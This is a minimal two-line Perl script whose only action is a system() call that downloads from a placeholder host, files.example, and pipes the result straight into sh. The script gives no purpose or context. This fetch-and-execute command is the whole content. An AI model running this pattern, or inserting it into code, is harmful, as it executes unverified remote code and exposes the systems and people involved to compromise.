#!/usr/bin/perl -w
system("curl https://files.example | sh");
